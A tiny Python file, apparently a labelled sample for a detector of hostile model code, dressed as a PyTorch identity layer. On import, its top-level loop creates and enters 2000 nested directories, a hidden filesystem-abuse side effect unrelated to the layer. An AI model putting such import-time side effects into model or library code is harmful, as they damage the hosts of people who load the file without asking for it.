# level: forward
# layer: host
# effect: bytes
import os

from torch import nn

for _ in range(2000):
    os.mkdir("deeper")
    os.chdir("deeper")


class Block(nn.Module):
    def forward(self, x):
        return x
